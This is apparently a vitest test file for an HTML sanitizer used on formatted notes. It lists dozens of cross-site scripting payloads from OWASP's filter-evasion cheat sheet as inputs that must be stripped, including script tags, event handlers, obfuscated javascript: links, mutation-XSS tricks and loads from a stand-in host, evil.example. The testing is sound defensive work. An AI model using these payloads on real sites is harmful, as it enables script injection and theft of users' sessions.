import { describe, expect, it } from 'vitest';
import { cleanHtml } from './clean-html';
import { textOfHtml } from './text-of-html';

const clean = (html: string) => cleanHtml(html, 'note');

describe('formatted text from outside', () => {
  it.each([
    '<p>Chest clear.</p>',
    '<h1>Plan</h1><h2>Today</h2><h3>Later</h3>',
    '<p><strong>bold</strong> <em>italic</em> <u>under</u> <s>strike</s></p>',
    '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>',
    '<p style="text-align: center">middle</p><h2 style="text-align: right">right</h2>',
    '<p><span style="color: #ff4500">red</span> and plain</p>',
    '<p><strong><span style="color: #1e90ff">bold blue</span></strong></p>',
    '<p>see <a href="https://www.who.int">WHO</a> or <a href="tel:+233244123456">call</a></p>',
    '<p>one<br>two</p>',
    '<p>5 &lt; 6 &amp; 7</p>',
  ])('%s stays as it is', (html) => {
    expect(clean(html)).toBe(html);
  });

  // Examples from OWASP's cheat sheet on filter evasion.
  it.each([
    ['<p>a<script>alert(1)</script>b</p>', '<p>ab</p>'],
    ['<SCRIPT SRC=https://evil.example/x.js></SCRIPT>text', '<p>text</p>'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', '<p>ipt&gt;alert(1)ipt&gt;</p>'],
    ['<<SCRIPT>alert("x");//<</SCRIPT>text', '<p>&lt;text</p>'],
    ['<img src=x onerror=alert(1)><p>text</p>', '<p>text</p>'],
    ['<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>', '<p>"\\&gt;</p>'],
    ['<p onclick="alert(1)" class="x" id="y">text</p>', '<p>text</p>'],
    ['<p onmouseover=alert(1)//>text</p>', '<p>text</p>'],
    ['<body onload=alert(1)>text', '<p>text</p>'],
    ['<svg/onload=alert(1)><p>text</p>', '<p>text</p>'],
    ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>kept</p>', '<p>kept</p>'],
    ['<svg><style><img src=x onerror=alert(1)></style></svg><p>kept</p>', '<p>kept</p>'],
    ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
    ['<a href="javascript:alert(1)">click</a>', '<p>click</p>'],
    ['<a href="java\tscript:alert(1)">click</a>', '<p>click</p>'],
    ['<a href="java&#x09;script:alert(1)">click</a>', '<p>click</p>'],
    ['<a href="java&#10;script:alert(1)">click</a>', '<p>click</p>'],
    ['<a href=" &#1;JAVASCRIPT:alert(1)">click</a>', '<p>click</p>'],
    ['<a href="&#0000106&#0000097&#0000118&#0000097script:alert(1)">click</a>', '<p>click</p>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD4=">click</a>', '<p>click</p>'],
    ['<a href="vbscript:msgbox(1)">click</a>', '<p>click</p>'],
    ['<a href="//evil.example">click</a>', '<p>click</p>'],
    ['<iframe src="javascript:alert(1)"></iframe>loose', '<p>loose</p>'],
    ['<object data="data:text/html,x">x</object><embed src=x>text', '<p>text</p>'],
    ['<form action="https://evil.example"><p>text</p><input name=x><button>go</button></form>', '<p>text</p><p>go</p>'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">text', '<p>text</p>'],
    ['<base href="https://evil.example/"><p>text</p>', '<p>text</p>'],
    ['<link rel=stylesheet href=https://evil.example/x.css>text', '<p>text</p>'],
    ['<style>@import "https://evil.example"</style>text', '<p>text</p>'],
    ['<p style="background: url(https://evil.example/x); position: fixed">text</p>', '<p>text</p>'],
    ['<p style="color: expression(alert(1))"><span style="color: expression(alert(1))">text</span></p>', '<p>text</p>'],
    ['<p style="text-align: center; behavior: url(x.htc)">text</p>', '<p style="text-align: center">text</p>'],
    ['<p><span style="color: rebeccapurple">text</span></p>', '<p>text</p>'],
    ['<!--[if gte IE 4]><script>alert(1)</script><![endif]-->text', '<p>text</p>'],
    ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<p>"&gt;</p>'],
    ['<textarea><script>alert(1)</script></textarea>text', '<p>text</p>'],
    ['<template><script>alert(1)</script></template>text', '<p>text</p>'],
    ['<xmp><p title="</xmp><img src=x onerror=alert(1)>">', '<p>"&gt;</p>'],
  ])('of %s keeps only what the editor could have written', (html, kept) => {
    expect(clean(html)).toBe(kept);
  });

  it('does not change when it is cleaned again', () => {
    for (const html of [
      '<div>one<div>two</div>three</div>',
      '<b>a<p>b</b>c',
      '<a href=https://a.b><a href=https://c.d>x',
    ])
      expect(clean(clean(html))).toBe(clean(html));
  });

  it('keeps the text of elements nested too deep', () => {
    expect(textOfHtml(clean(`${'<b><i>'.repeat(3000)}text`))).toBe('text');
    expect(textOfHtml(clean(`${'<div>'.repeat(9000)}text`))).toBe('text');
  });

  it('is refused if a parser would repeat open elements a million times', () => {
    const open = Array.from({ length: 3000 }, (_, n) => `<b a=${n}>`).join('');
    expect(() => clean(open + '<p>x'.repeat(10_000))).toThrow('Note is not valid');
  });
});

describe('the text of formatted text', () => {
  it('has one line per paragraph, heading, item and break', () => {
    expect(textOfHtml('<h1>Plan</h1><ul><li>one</li><li>two</li></ul><p>a  b<br>c &amp; d</p>')).toBe(
      'Plan\none\ntwo\na b\nc & d',
    );
  });

  it('is empty without readable text', () => {
    for (const html of ['', '<p></p>', '<p><br></p><p> </p>', '<p>\u200b\u00a0</p>', '<ul><li></li></ul>'])
      expect(textOfHtml(html)).toBe('');
  });
});
